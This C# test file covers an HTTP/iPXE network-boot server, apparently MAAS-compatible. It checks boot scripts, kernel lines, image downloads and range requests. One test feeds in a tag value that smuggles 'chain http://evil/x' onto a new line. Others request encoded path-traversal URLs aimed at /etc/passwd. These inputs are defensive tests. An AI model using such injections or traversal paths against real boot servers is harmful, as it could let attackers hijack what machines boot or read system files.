using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using Ingot.Boot.HttpBoot;
using Ingot.Core.Boot;
using Ingot.Core.Hardware;
using Ingot.Core.Machines;

namespace Ingot.Boot.Tests.HttpBoot;

/// <summary>HTTP boot through HTTP against a real Kestrel host.</summary>
public sealed class HttpBootTests(HttpBootHost host) : IClassFixture<HttpBootHost>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private string Base => $"http://127.0.0.1:{host.Port}";

    public static TheoryData<MachineStatus> Statuses() => [.. Enum.GetValues<MachineStatus>()];

    private MacAddress Enroll(MachineStatus status, bool netboot = true)
    {
        var mac = MacAddress.Parse(string.Create(CultureInfo.InvariantCulture, $"52:54:00:aa:{(netboot ? 1 : 2):x2}:{(int)status:x2}"));
        host.Machines.Machines[mac] = new BootRecord("abc" + (int)status, "node" + (int)status, status, MachineStatus.Ready, "amd64/generic", "ubuntu", "jammy", "", netboot);
        return mac;
    }

    private Task<string> ScriptAsync(MacAddress mac) => host.Client.GetStringAsync($"/ipxe/mac/{mac}/boot.ipxe", Ct);

    [Fact]
    public async Task The_generic_script_chains_to_the_per_mac_script_on_the_same_server()
    {
        string script = await host.Client.GetStringAsync("/ipxe/boot.ipxe", Ct);

        Assert.StartsWith("#!ipxe\n", script, StringComparison.Ordinal);
        Assert.Contains($"chain {Base}/ipxe/mac/${{netX/mac}}/boot.ipxe?platform=${{platform}} || exit", script, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("efi", "uefi")]
    [InlineData("pcbios", "pxe")]
    public async Task The_firmware_ipxe_names_is_recorded_as_the_machines_bios_boot_method(string platform, string method)
    {
        var mac = MacAddress.Parse($"52:54:00:bb:00:{platform.Length:x2}");
        host.Machines.Machines[mac] = new BootRecord("bbm" + platform, "fw", MachineStatus.Commissioning, MachineStatus.New, "amd64/generic", "", "", "", true);

        string script = await host.Client.GetStringAsync($"/ipxe/mac/{mac}/boot.ipxe?platform={platform}", Ct);

        Assert.Contains("kernel ", script, StringComparison.Ordinal);
        Assert.Equal(method, host.Machines.Machines[mac].BiosBootMethod);
    }

    [Fact]
    public async Task A_script_request_under_a_claimed_power_on_records_the_boot_under_the_claim_it_was_chosen_by()
    {
        var mac = MacAddress.Parse("52:54:00:bb:02:01");
        var claim = new DateTime(2026, 11, 28, 0, 43, 17, DateTimeKind.Utc);
        host.Machines.Machines[mac] = new BootRecord("bbc001", "fw", MachineStatus.Commissioning, MachineStatus.New, "amd64/generic", "", "", "", true)
        {
            BootInterfaceMac = mac,
            PowerClaimAwaitingBoot = claim,
        };

        string script = await ScriptAsync(mac);

        Assert.Contains("kernel ", script, StringComparison.Ordinal);
        Assert.Contains(claim, host.Machines.BootsUnderPowerClaims);
        Assert.Null(host.Machines.Machines[mac].PowerClaimAwaitingBoot);
    }

    [Theory]
    [InlineData("")]
    [InlineData("?platform=")]
    [InlineData("?platform=%24%7Bplatform%7D")]
    [InlineData("?platform=arm64-efi")]
    public async Task A_missing_or_unknown_platform_leaves_the_bios_boot_method_as_it_was(string query)
    {
        var mac = MacAddress.Parse($"52:54:00:bb:01:{query.Length:x2}");
        host.Machines.Machines[mac] = new BootRecord("bbk" + query.Length, "fw", MachineStatus.Ready, MachineStatus.New, "amd64/generic", "", "", "", true) { BiosBootMethod = "uefi" };

        string script = await host.Client.GetStringAsync($"/ipxe/mac/{mac}/boot.ipxe{query}", Ct);

        Assert.Equal(IpxeScripts.LocalBoot, script);
        Assert.Equal("uefi", host.Machines.Machines[mac].BiosBootMethod);
    }

    [Fact]
    public async Task First_stage_loaders_are_served_for_uefi_http_boot_and_nothing_else()
    {
        Assert.Equal(host.Kernel, await host.Client.GetByteArrayAsync("/boot/ipxe.efi", Ct));
        Assert.Equal(new byte[] { 1, 2, 3 }, await host.Client.GetByteArrayAsync("/boot/arm64/ipxe.efi", Ct));
        foreach (string path in new[] { "/boot/snponly.efi", "/boot/undionly.kpxe", "/boot/../boot/ipxe.efi.bak", "/boot/%2E%2E/%2E%2E/etc/passwd", "/boot/" })
        {
            using HttpResponseMessage response = await host.Client.GetAsync(path, Ct);
            Assert.True(response.StatusCode == HttpStatusCode.NotFound, $"{path}: {response.StatusCode}");
        }
    }

    [Theory]
    [MemberData(nameof(Statuses))]
    public async Task Each_status_gets_the_script_maas_would_boot(MachineStatus status)
    {
        string script = await ScriptAsync(Enroll(status));
        string id = "abc" + (int)status;

        if (BootPurposes.CommissioningLike.Contains(status))
        {
            // Disk erasing a deployed Ubuntu machine boots its deployed release (MAAS LP: #1768321).
            string series = status == MachineStatus.DiskErasing ? "jammy" : "noble";
            Assert.Contains($"{Base}/images/ubuntu/amd64/generic/{series}/stable/boot-kernel", script, StringComparison.Ordinal);
            Assert.Contains($"cloud-config-url={Base}/MAAS/metadata/latest/by-id/{id}/?op=get_preseed", script, StringComparison.Ordinal);
            Assert.Contains($"ip=::::node{(int)status}:BOOTIF", script, StringComparison.Ordinal);
        }
        else if (status == MachineStatus.Deploying)
        {
            Assert.Contains($"{Base}/images/ubuntu/amd64/generic/jammy/stable/boot-kernel", script, StringComparison.Ordinal);
            Assert.Contains($"root=squash:{Base}/images/ubuntu/amd64/generic/jammy/stable/squashfs", script, StringComparison.Ordinal);
            Assert.Contains($"/by-id/{id}/?op=get_preseed", script, StringComparison.Ordinal);
        }
        else
        {
            Assert.Equal(IpxeScripts.LocalBoot, script);
        }
    }

    [Theory]
    [InlineData(MachineStatus.Deploying, "root-tgz", "root-tgz")]
    [InlineData(MachineStatus.Deployed, "root-tgz", "root-tgz")]
    [InlineData(MachineStatus.Deploying, "root-txz", "root-txz")]
    public async Task A_deployment_to_memory_of_an_image_with_a_root_tarball_names_the_tarball_on_the_kernel_line(MachineStatus status, string fileType, string expected)
    {
        string series = $"mem-{(int)status}-{fileType}";
        var mac = MacAddress.Parse(string.Create(CultureInfo.InvariantCulture, $"52:54:00:cc:{(int)status:x2}:{(int)fileType[^2]:x2}"));
        host.Images.Images.Add(new BootImage("custom", series, "amd64/generic", new Dictionary<string, BootImageFile>
        {
            ["boot-kernel"] = new("boot-kernel", "/nonexistent/vmlinuz", 1, ""),
            ["boot-initrd"] = new("boot-initrd", "/nonexistent/initrd", 1, ""),
            [fileType] = new(fileType, "/nonexistent/" + fileType, 1, ""),
        }));
        host.Machines.Machines[mac] = new BootRecord("mem" + series, "memnode", status, MachineStatus.Allocated, "amd64/generic", "custom", series, "", true, EphemeralDeployment: true);

        string kernel = Assert.Single((await ScriptAsync(mac)).Split('\n'), l => l.StartsWith("kernel ", StringComparison.Ordinal));

        // A custom image boots the commissioning image's kernel (Ingot's ephemeral OS), which unpacks the tarball.
        Assert.StartsWith($"kernel {Base}/images/ubuntu/amd64/generic/noble/stable/boot-kernel ", kernel, StringComparison.Ordinal);
        Assert.EndsWith($"log_port=5247 ingot_memory_root={Base}/images/custom/amd64/generic/{series}/stable/{expected} BOOTIF=01-${{netX/mac:hexhyp}}", kernel, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(true, "squashfs")]
    [InlineData(false, "root-tgz")]
    public async Task Without_a_root_tarball_or_not_to_memory_the_kernel_line_names_no_memory_root(bool toMemory, string fileType)
    {
        string series = $"nomem-{toMemory}-{fileType}";
        var mac = MacAddress.Parse(string.Create(CultureInfo.InvariantCulture, $"52:54:00:cd:{(toMemory ? 1 : 0):x2}:{fileType.Length:x2}"));
        host.Images.Images.Add(new BootImage("custom", series, "amd64/generic", new Dictionary<string, BootImageFile>
        {
            [fileType] = new(fileType, "/nonexistent/" + fileType, 1, ""),
        }));
        host.Machines.Machines[mac] = new BootRecord("nomem" + series, "nomem", MachineStatus.Deploying, MachineStatus.Allocated, "amd64/generic", "custom", series, "", true, EphemeralDeployment: toMemory);

        string script = await ScriptAsync(mac);

        Assert.Contains("kernel ", script, StringComparison.Ordinal);
        Assert.DoesNotContain("ingot_memory_root", script, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Deploying_with_netboot_off_boots_from_the_local_disk()
    {
        string script = await ScriptAsync(Enroll(MachineStatus.Deploying, netboot: false));

        Assert.Contains("sanboot --no-describe --drive 0x80", script, StringComparison.Ordinal);
        Assert.Contains("iseq ${platform} efi && exit 1 ||\n", script, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_unknown_mac_enlists_with_maas_kernel_parameters()
    {
        string script = await ScriptAsync(MacAddress.Parse("52:54:00:ff:ff:01"));

        string[] lines = script.Split('\n');
        Assert.Equal("#!ipxe", lines[0]);
        string kernel = Assert.Single(lines, l => l.StartsWith("kernel ", StringComparison.Ordinal));
        Assert.Equal(
            $"kernel {Base}/images/ubuntu/amd64/generic/noble/stable/boot-kernel initrd=initrd.img nomodeset ro " +
            $"root=squash:{Base}/images/ubuntu/amd64/generic/noble/stable/squashfs ip=::::maas-enlist:BOOTIF ip6=off " +
            "overlayroot=tmpfs overlayroot_cfgdisk=disabled cc:{'datasource_list': ['MAAS']}end_cc " +
            $"cloud-config-url={Base}/MAAS/metadata/latest/enlist-preseed/?op=get_enlist_preseed apparmor=0 " +
            "log_host=127.0.0.1 log_port=5247 BOOTIF=01-${netX/mac:hexhyp}",
            kernel);
        Assert.Contains($"initrd --name initrd.img {Base}/images/ubuntu/amd64/generic/noble/stable/boot-initrd", lines);
        Assert.Equal("boot", lines[^2]);
    }

    [Theory]
    [InlineData("not-a-mac")]
    [InlineData("52:54:00:12:34")]
    [InlineData("zz:zz:zz:zz:zz:zz")]
    public async Task A_bad_mac_is_400(string mac)
    {
        using HttpResponseMessage response = await host.Client.GetAsync($"/ipxe/mac/{mac}/boot.ipxe", Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Fact]
    public async Task A_machine_whose_tags_carry_kernel_options_gets_them_after_the_curtin_separator_on_one_line()
    {
        MacAddress tagged = MacAddress.Parse("52:54:00:ee:00:02");
        MacAddress plain = MacAddress.Parse("52:54:00:ee:00:03");
        host.Machines.Machines[tagged] = new BootRecord("opt001", "opt", MachineStatus.Commissioning, MachineStatus.New, "amd64/generic", "", "", "", true, "console=ttyS1,115200n8\n  chain http://evil/x");
        host.Machines.Machines[plain] = new BootRecord("opt002", "opt2", MachineStatus.Commissioning, MachineStatus.New, "amd64/generic", "", "", "", true);

        string script = await ScriptAsync(tagged);
        string plainScript = await ScriptAsync(plain);

        string kernelLine = Assert.Single(script.Split('\n'), l => l.StartsWith("kernel ", StringComparison.Ordinal));
        Assert.Contains("log_port=5247 --- console=ttyS1,115200n8 chain http://evil/x BOOTIF=01-", kernelLine, StringComparison.Ordinal);
        Assert.DoesNotContain(script.Split('\n'), l => l.StartsWith("chain", StringComparison.Ordinal));
        Assert.DoesNotContain(" --- ", plainScript, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_machine_whose_image_is_not_synced_is_told_so_and_boots_locally()
    {
        MacAddress mac = MacAddress.Parse("52:54:00:ee:00:01");
        host.Machines.Machines[mac] = new BootRecord("arm001", "arm", MachineStatus.Commissioning, MachineStatus.New, "arm64/generic", "", "", "", true);

        string script = await ScriptAsync(mac);

        Assert.Contains("echo Ingot has no boot image for commissioning ubuntu/noble arm64/generic", script, StringComparison.Ordinal);
        Assert.Contains("sanboot", script, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Kernel_downloads_whole_with_length_and_etag()
    {
        using HttpResponseMessage response = await host.Client.GetAsync("/images/ubuntu/amd64/generic/noble/stable/boot-kernel", Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(host.Kernel.Length, response.Content.Headers.ContentLength);
        Assert.NotNull(response.Headers.ETag);
        Assert.Equal(host.Kernel, await response.Content.ReadAsByteArrayAsync(Ct));
    }

    [Theory]
    [InlineData(0L, 99L)]
    [InlineData(1000L, 1000L)]
    [InlineData(299_000L, null)]
    public async Task A_range_request_returns_206_with_exactly_those_bytes(long from, long? to)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/images/ubuntu/amd64/generic/noble/stable/boot-kernel");
        request.Headers.Range = new RangeHeaderValue(from, to);

        using HttpResponseMessage response = await host.Client.SendAsync(request, Ct);

        long end = to ?? (host.Kernel.Length - 1);
        Assert.Equal(HttpStatusCode.PartialContent, response.StatusCode);
        Assert.Equal(host.Kernel[(int)from..(int)(end + 1)], await response.Content.ReadAsByteArrayAsync(Ct));
        Assert.Equal(from, response.Content.Headers.ContentRange!.From);
        Assert.Equal(host.Kernel.Length, response.Content.Headers.ContentRange.Length);
    }

    [Fact]
    public async Task A_range_past_the_end_is_416()
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/images/ubuntu/amd64/generic/noble/stable/boot-kernel");
        request.Headers.Range = new RangeHeaderValue(10_000_000, null);

        using HttpResponseMessage response = await host.Client.SendAsync(request, Ct);

        Assert.Equal(HttpStatusCode.RequestedRangeNotSatisfiable, response.StatusCode);
    }

    [Theory]
    [InlineData("/images/ubuntu/amd64/generic/focal/stable/boot-kernel")]
    [InlineData("/images/ubuntu/arm64/generic/noble/stable/boot-kernel")]
    [InlineData("/images/ubuntu/amd64/generic/noble/stable/root-tgz")]
    [InlineData("/images/ubuntu/amd64/generic/noble/stable/squashfs")]
    [InlineData("/images/ubuntu/amd64/generic/noble/stable/..%2F..%2Fetc%2Fpasswd")]
    public async Task An_unknown_image_or_file_is_404(string path)
    {
        using HttpResponseMessage response = await host.Client.GetAsync(path, Ct);

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }
}
